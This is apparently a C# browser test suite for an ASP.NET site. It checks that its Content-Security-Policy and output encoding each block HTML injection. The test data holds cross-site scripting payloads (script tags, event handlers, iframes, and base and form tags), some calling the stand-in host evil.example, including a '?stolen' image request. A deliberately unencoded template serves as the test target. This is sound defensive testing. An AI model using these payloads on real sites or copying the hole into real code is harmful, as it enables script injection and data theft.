using Microsoft.AspNetCore.Mvc;
using Microsoft.AspNetCore.Mvc.Testing;

namespace RazorHello.Tests.Escaping;

/// <summary>Encoding and policy each stop an injection alone, as a browser sees it.</summary>
[Collection(nameof(FirstPublishedSite))]
public class TwoLayersTests(Chromium chromium)
{
    private const string Run = "document.documentElement.dataset.injected = 'yes'";

    [Theory]
    [InlineData("script-src-elem", $"<script>{Run}</script>")]
    [InlineData("script-src-elem", $"<script src=\"data:text/javascript,{Run}\"></script>")]
    [InlineData("script-src-elem", "<script src=\"https://evil.example/x.js\"></script>")]
    [InlineData("script-src-attr", $"<img src=\"/icon.svg\" onload=\"{Run}\">")]
    [InlineData("script-src-attr", $"<svg onload=\"{Run}\"></svg>")]
    [InlineData("script-src-attr", $"<input autofocus onfocus=\"{Run}\">")]
    [InlineData("frame-src", "<iframe src=\"https://evil.example/\"></iframe>")]
    [InlineData("script-src-elem", $"<iframe srcdoc=\"<script>parent.{Run}</script>\"></iframe>")]
    [InlineData("style-src-elem", "<style>h1 { display: none }</style>")]
    [InlineData("style-src-attr", "<p style=\"position: fixed; inset: 0\">")]
    [InlineData("img-src", "<img src=\"https://evil.example/?stolen\">")]
    [InlineData("base-uri", "<base href=\"https://evil.example/\">")]
    public async Task The_policy_stops_what_a_hole_in_a_template_lets_in(string directive, string injection)
    {
        using var holed = Holed();
        await using var visit = await chromium.VisitAsync(holed.OnASocket());
        var violated = new TaskCompletionSource<string>();

        await visit.Page.ExposeFunctionAsync("violated", (string violation) => violated.TrySetResult(violation));
        await visit.Page.AddInitScriptAsync("addEventListener('securitypolicyviolation', event => violated(event.effectiveDirective), true)");

        // A frame's violation is told to the frame: the listener is put into every frame, and each tells the same function.
        await visit.Page.GotoAsync($"/?name={Uri.EscapeDataString(injection)}");

        Assert.Equal(directive, await violated.Task.WaitAsync(TimeSpan.FromMinutes(1)));
        Assert.Null(await visit.Page.Locator("html").GetAttributeAsync("data-injected"));
    }

    [Fact]
    public async Task The_policy_stops_a_form_that_would_send_the_visitor_elsewhere()
    {
        using var holed = Holed();
        await using var visit = await chromium.VisitAsync(holed.OnASocket());
        var violated = new TaskCompletionSource<string>();

        await visit.Page.ExposeFunctionAsync("violated", (string violation) => violated.TrySetResult(violation));
        await visit.Page.AddInitScriptAsync("addEventListener('securitypolicyviolation', event => violated(event.effectiveDirective), true)");
        await visit.Page.GotoAsync($"/?name={Uri.EscapeDataString("<form action=\"https://evil.example/\"><button>Click</button></form>")}");
        await visit.Page.Locator("button").DispatchEventAsync("click");

        Assert.Equal("form-action", await violated.Task.WaitAsync(TimeSpan.FromMinutes(1)));
    }

    [Theory]
    [InlineData($"<script>{Run}</script>")]
    [InlineData($"<img src=\"/site.css\" onerror=\"{Run}\">")]
    [InlineData($"<svg onload=\"{Run}\"></svg>")]
    public async Task Without_the_policy_the_hole_is_real(string injection)
    {
        using var open = Holed().WithoutHeader("Content-Security-Policy");
        await using var visit = await chromium.VisitAsync(open.OnASocket());

        await visit.Page.GotoAsync($"/?name={Uri.EscapeDataString(injection)}");

        Assert.Equal("yes", await visit.Page.Locator("html").GetAttributeAsync("data-injected"));
    }

    [Fact]
    public async Task Without_the_policy_the_pages_of_the_site_still_run_nothing()
    {
        using var site = new SiteFactory();
        using var open = site.WithoutHeader("Content-Security-Policy");
        var address = open.OnASocket();
        await using var visit = await chromium.VisitAsync(address);
        visit.Expected.UnionWith([400, 404]);

        foreach (var walk in await EndpointProbe.EndpointsAsync(open.Services))
        {
            foreach (var text in Names.Hostile.Append($"<script>{Run}</script>").Append($"\" onfocus=\"{Run}\" autofocus=\""))
            {
                var response = await visit.Page.GotoAsync(walk.Address("name", text));

                Assert.False(response!.Headers.ContainsKey("content-security-policy"));
                Assert.Null(await visit.Page.Locator("html").GetAttributeAsync("data-injected"));
                visit.WentWell(text);
            }
        }
    }

    [Fact]
    public async Task The_browser_knows_every_feature_that_the_policy_names_and_denies_it()
    {
        using var site = new SiteFactory();
        await using var visit = await chromium.VisitAsync(site.OnASocket());
        var response = await visit.Page.GotoAsync("/");
        var named = response!.Headers["permissions-policy"].Replace("=()", "", StringComparison.Ordinal).Split(", ");
        var known = await visit.Page.EvaluateAsync<string[]>("document.featurePolicy.features()");
        var allowed = await visit.Page.EvaluateAsync<string[]>("document.featurePolicy.allowedFeatures()");

        Assert.Superset(named.ToHashSet(), known.ToHashSet());
        Assert.Empty(named.Intersect(allowed));
        visit.WentWell("the front page");
    }

    private static WebApplicationFactory<Program> Holed() => new SiteFactory().WhereTheGreeting(context => context.Result = new ContentResult
    {
        ContentType = "text/html; charset=utf-8",
        Content = $"<!DOCTYPE html><title>A hole</title><h1>Hello, {context.HttpContext.Request.Query["name"]}</h1>",
    });
}
